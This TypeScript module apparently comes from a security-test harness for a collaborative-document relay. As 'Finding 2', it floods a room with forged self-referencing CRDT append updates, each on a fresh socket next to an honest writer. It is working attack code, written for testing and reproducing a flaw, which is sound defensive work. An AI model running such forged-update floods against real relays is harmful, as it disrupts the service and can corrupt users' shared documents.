// Finding 2: 54-byte append updates whose item's right neighbour (or origin) is itself, sent
// as fast as the relay answers, each on a fresh socket next to a writer of the attacked room.
import { selfOriginUpdate, selfRightUpdate, syncFrame } from '../../tests/support/update-forge.ts'
import { type Attack, appendOnce, besideWriter, untilAborted } from './types.ts'

/** Self-referencing items against a room with an honest writer in it. */
export const selfReference: Attack = {
  name: 'self-reference',
  async run({ wsUrl, signal }) {
    let n = 0
    await besideWriter(wsUrl, (room) =>
      untilAborted(signal, async () => {
        const update = n++ % 2 === 0 ? selfRightUpdate(1000 + n) : selfOriginUpdate(1000 + n)
        await appendOnce(wsUrl, room, syncFrame(2, update))
      }),
    )
  },
}
